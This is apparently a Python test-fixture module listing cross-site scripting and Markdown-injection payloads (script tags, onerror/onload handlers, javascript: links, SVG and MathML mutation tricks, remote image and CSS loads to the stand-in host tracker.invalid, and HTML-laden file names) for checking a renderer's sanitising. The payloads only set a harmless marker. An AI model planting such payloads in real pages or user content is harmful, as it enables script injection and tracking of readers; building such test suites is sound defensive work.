"""Texts that want to run, fetch or leave something in a page that shows them.

What runs sets `pwned` on the page; what is fetched has "pwned" in its path here, or goes to tracker.invalid, a name
that nobody can have.
"""

from __future__ import annotations

_RUN = "top.pwned=1"
_OUT = "http://tracker.invalid/pwned"

PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<script src={_OUT}.js></script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x-pwned onerror={_RUN}>",
    f"<img src=\"/pwned.png\" onerror=\"{_RUN}\">",
    f"<img/src=/pwned.png/onerror={_RUN}>",
    f"<<img src=/pwned.png onerror={_RUN}>",
    f"<img src='{_OUT}.png'>",
    f"<img srcset='{_OUT}.png 2x'>",
    f"<picture><source srcset={_OUT}.webp><img></picture>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>click</text></a></svg>",
    f"<svg><image href='{_OUT}.svg'/><use href='{_OUT}.svg#x'/></svg>",
    f"<svg><foreignObject><img src=/pwned.png onerror={_RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=/pwned.png onerror={_RUN}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{_RUN}'>click</math>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video autoplay onloadstart={_RUN}><source onerror={_RUN} src=/pwned.mp4></video>",
    f"<audio src={_OUT}.mp3 autoplay></audio>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;{_RUN}&lt;/script&gt;'></iframe>",
    f"<iframe src={_OUT}></iframe>",
    f"<object data='javascript:{_RUN}'></object><embed src='{_OUT}.swf'>",
    f"<form action='javascript:{_RUN}'><button>click</button></form>",
    f"<button formaction='javascript:{_RUN}'>click</button>",
    f"<a href='javascript:{_RUN}'>click</a>",
    f"<a href='java&#x0A;script:{_RUN}'>click</a>",
    f"<base href='{_OUT}/'>",
    f"<meta http-equiv=refresh content='0;url={_OUT}'>",
    f"<link rel=stylesheet href={_OUT}.css><link rel=preload as=image href={_OUT}.png>",
    f"<style>@import '{_OUT}.css';*{{background:url({_OUT}.png)}}</style>",
    f"<div style=\"background:url('{_OUT}.png')\">x</div>",
    f"<table background='{_OUT}.png'><tr><td>x</td></tr></table>",
    f"<template><script>{_RUN}</script></template><noscript><img src=/pwned.png></noscript>",
    f"<textarea><img title=\"</textarea><img src=/pwned.png onerror={_RUN}>\">",
    f"<!--><img src=/pwned.png onerror={_RUN}>-->",
    f"<![CDATA[><img src=/pwned.png onerror={_RUN}>]]>",
    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{_RUN}</script></x>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;img src=/pwned.png onerror={_RUN}&#62;",
    f"![x]({_OUT}.png)",
    f"![x](/pwned.png \"t\" onerror={_RUN})",
    f"[![x]({_OUT}.png)]({_OUT})",
    f"![x][p]\n\n[p]: {_OUT}.png",
    f"![x](javascript:{_RUN}) ![y](data:image/svg+xml,<svg/onload={_RUN}>)",
    f"[click](javascript:{_RUN}) [click](JaVaScRiPt:{_RUN}) [click](data:text/html,<script>{_RUN}</script>)",
    f"<javascript:{_RUN}> <vbscript:{_RUN}>",
    f"[x]: javascript:{_RUN}\n\n[x]",
    f"```html\" onload=\"{_RUN}\n<script>{_RUN}</script>\n```",
    f"```mermaid\ngraph TD\nA[\"<img src=/pwned.png onerror={_RUN}>\"] --> B\nclick A href \"javascript:{_RUN}\"\n```",
    f"`<img src=/pwned.png onerror={_RUN}>` ~~<b onclick={_RUN}>x</b>~~",
    f"| <img src=/pwned.png onerror={_RUN}> | b |\n|---|---|\n| <script>{_RUN}</script> | ![x]({_OUT}.png) |",
    f"$\\href{{javascript:{_RUN}}}{{x}}$ $$\\includegraphics{{{_OUT}.png}}$$ $\\htmlData{{onload={_RUN}}}{{x}}$",
    f"$$\\text{{<img src=/pwned.png onerror={_RUN}>}}$$ "
    f"\\(\\url{{javascript:{_RUN}}}\\) $<img src=/pwned.png onerror={_RUN}>$",
    f":material/home: :red[<img src=/pwned.png onerror={_RUN}>] :image[x]({_OUT}.png) {{{{7*7}}}} ${{{_RUN}}} "
    f"'\"><img src=/pwned.png onerror={_RUN}>",
    # Where one reader of Markdown sees code or text, and another a picture.
    f"![a[b]c]({_OUT}.png)",
    f"![x\ny]({_OUT}.png)",
    f"![y](\n{_OUT}.png)",
    f"![z]\n\n[z]: {_OUT}.png",
    f"- a ` b\n- ![x]({_OUT}.png) ` c",
    f"- `\n- <img src={_OUT}.png> `",
    f"para\n    ~~~\n![x]({_OUT}.png)\n    ~~~",
    f"> ```\n![x]({_OUT}.png)\n> ```",
    f"- a\n   ```\n<img src={_OUT}.png>\n   ```",
    f"<br>\n```\n<img src={_OUT}.png>\n```",
    f"``` a`b\n\n![x]({_OUT}.png)\n\n```",
    f"| a ` | ![x]({_OUT}.png) ` |\n|---|---|\n| b ` | <img src={_OUT}.png> ` |",
    f"http://a.b/` ![x]({_OUT}.png) <img src={_OUT}.png> `",
    f"[a](` \"`\") ![x]({_OUT}.png) <img src={_OUT}.png> `",
    f"[q]: u \"\n```\n\"\n![x]({_OUT}.png) <img src={_OUT}.png>\n```",
    f"$![x]({_OUT}.png)$ \\[![x]({_OUT}.png)\\]",
)  # fmt: skip

NAMES = (
    f"<img src=x-pwned onerror={_RUN}>.txt",
    "'\"><svg onload=top.pwned=1>.txt",
    "![x](tracker.invalid).txt",
    "javascript:top.pwned=1.txt",
)
"""The like as names of files, which hold no slash."""
